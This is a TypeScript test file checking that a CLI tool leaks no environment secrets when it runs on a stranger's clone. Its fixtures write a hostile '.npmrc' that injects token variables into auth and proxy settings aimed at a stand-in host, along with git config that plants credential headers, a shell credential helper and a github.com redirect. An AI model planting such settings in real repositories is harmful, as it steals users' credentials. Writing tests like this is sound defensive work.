import type { IncomingMessage } from "node:http";
import { afterEach, beforeEach, describe, expect, test, vi } from "vitest";
import { CLEAN } from "../e2e/cards.js";
import { folder, git, temporary } from "../e2e/runner.js";
import { type Host, startHost } from "../helpers/hosts.js";
import { call } from "./call.js";

/** A clone of somebody else's, on the machine of somebody who has secrets in the environment. */

const SECRETS = {
  AWS_SECRET_ACCESS_KEY: "s3cret-aws",
  GITHUB_TOKEN: "ghs_s3cretOfTheJob",
  GH_TOKEN: "ghs_s3cretOfTheDesk",
  CARDWARDEN_PACKS_TOKEN: "ghs_s3cretForPacks",
  NPM_TOKEN: "npm_s3cret",
  CARDWARDEN_CACHE_KEY: "s3cret-of-the-cache-that-is-long",
};

let stranger: Host;
/** Everything that the stranger was sent. */
let seen: string[];
beforeEach(async () => {
  seen = [];
  stranger = await startHost((path: string, { rawHeaders, method }: IncomingMessage) => {
    seen.push([method, path, ...rawHeaders].join("\n"));
    return { status: 401, headers: { "www-authenticate": 'Basic realm="x"' } };
  });
  vi.stubEnv("HOME", temporary());
  vi.stubEnv("npm_config_userconfig", "");
  vi.stubEnv("CARDWARDEN_CACHE", temporary());
  vi.stubEnv("GIT_CONFIG_NOSYSTEM", "1");
  for (const [name, value] of Object.entries(SECRETS)) vi.stubEnv(name, value);
});
afterEach(async () => {
  vi.unstubAllEnvs();
  await stranger.stop();
});

const isSecret = (text: string) =>
  Object.values(SECRETS).some(
    (secret) => text.includes(secret) || Buffer.from(text, "base64").toString().includes(secret),
  );
const leaks = () =>
  seen.filter((request) => isSecret(request) || request.split(/[\s:]+/).some(isSecret));

/** Every way in which `.npmrc` could name what the environment holds. */
function npmrc(): string {
  const { host } = new URL(stranger.url);
  const all = Object.keys(SECRETS).map((name) => `\${${name}}`);
  return [
    `registry=${stranger.url}`,
    `@evil:registry=${stranger.url}`,
    ...all.map((one) => `//${host}/:_authToken=${one}`),
    `//${host}/:_auth=${all.join("")}`,
    `//${host}/evil:_authToken=x${all.join("-")}`,
    `//${host}/:username=${all.join("")}`,
    `//${host}/:_password=${all.join("")}`,
    `https-proxy=http://${all.join("")}@${host}`,
    `proxy=http://${all.join("")}@${host}`,
    "noproxy=",
    "",
  ].join("\n");
}

const lockOf = (...packs: [string, Record<string, string>][]) =>
  JSON.stringify({
    schema: "lock.v1",
    packs: Object.fromEntries(
      packs.map(([place, pinned]) => [
        place,
        { name: "evil", version: "1.0.0", digest: `sha256-${"0".repeat(64)}`, ...pinned },
      ]),
    ),
  });

/** A repository whose configuration, lock, `.npmrc` and own git settings a stranger wrote. */
async function clone(kind: "npm" | "git"): Promise<string> {
  const git1 = `git+${stranger.url}acme/evil.git//pack@${"a".repeat(40)}`;
  const place = kind === "npm" ? "npm:evil@1.0.0" : git1;
  const pinned: Record<string, string> =
    kind === "npm"
      ? {
          source: `${stranger.url}evil/-/evil-1.0.0.tgz`,
          packageVersion: "1.0.0",
          integrity: `sha512-${"A".repeat(86)}==`,
        }
      : { source: `${stranger.url}acme/evil.git`, commit: "a".repeat(40) };
  const cwd = folder({
    "README.md": CLEAN,
    ".cardwarden.yml": `packs: [doc, ${JSON.stringify(place)}]\n`,
    "cardwarden.lock": lockOf([place, pinned]),
    ".npmrc": npmrc(),
  });
  await git(cwd, "init", "-q");
  const basic = Buffer.from("x:ghs_s3cretOfTheJob").toString("base64");
  for (const [key, value] of [
    [`http.${stranger.url}.extraheader`, `AUTHORIZATION: basic ${basic}`],
    ["credential.helper", "!f() { echo username=x; echo password=ghs_s3cretOfTheJob; }; f"],
    [`url.${stranger.url}.insteadOf`, "https://github.com/"],
  ] as const)
    await git(cwd, "config", key, value);
  return cwd;
}

describe.each(["npm", "git"] as const)("with a pack of a stranger from %s", (kind) => {
  test.each([
    ["facts", "README.md"],
    ["lineage", "."],
    ["explain", "ip/upstream-not-pinned"],
    ["explain", "ip/upstream-not-pinned", "--effective"],
    ["rules"],
  ])("%s %s asks nobody, and says what to do", async (...argv) => {
    const { code, err } = await call(await clone(kind), argv.filter(Boolean));
    expect([code, err]).toEqual([2, expect.stringContaining("pack verify")]);
    expect(seen).toEqual([]);
  });

  test.each([
    ["check", "."],
    ["fix", "--dry-run", "."],
    ["pack", "lock"],
    ["pack", "update"],
    ["pack", "verify"],
    ["pack", "diff", "npm:evil@1.0.0", "npm:@evil/x@2.0.0"],
  ])("%s %s sends nothing of the environment", async (...argv) => {
    const { out, err } = await call(await clone(kind), argv);
    if (argv[1] !== "lock") expect(seen.length).toBeGreaterThan(0);
    expect(leaks()).toEqual([]);
    expect(isSecret(out + err)).toBe(false);
  });
});

test("github: asks the server of the environment, whatever the clone calls it", async () => {
  const cwd = await clone("git");
  const place = "github:acme/policy@v1.0.0";
  folder({ ".cardwarden.yml": `packs: [${JSON.stringify(place)}]\n` }, cwd);
  const github = await startHost(() => ({ status: 404 }));
  vi.stubEnv("GITHUB_SERVER_URL", github.url);
  await git(cwd, "config", `url.${stranger.url}.insteadOf`, github.url);
  expect((await call(cwd, ["pack", "lock"])).code).toBe(2);
  expect(github.asked.length).toBeGreaterThan(0);
  expect(seen).toEqual([]);
  await github.stop();
});
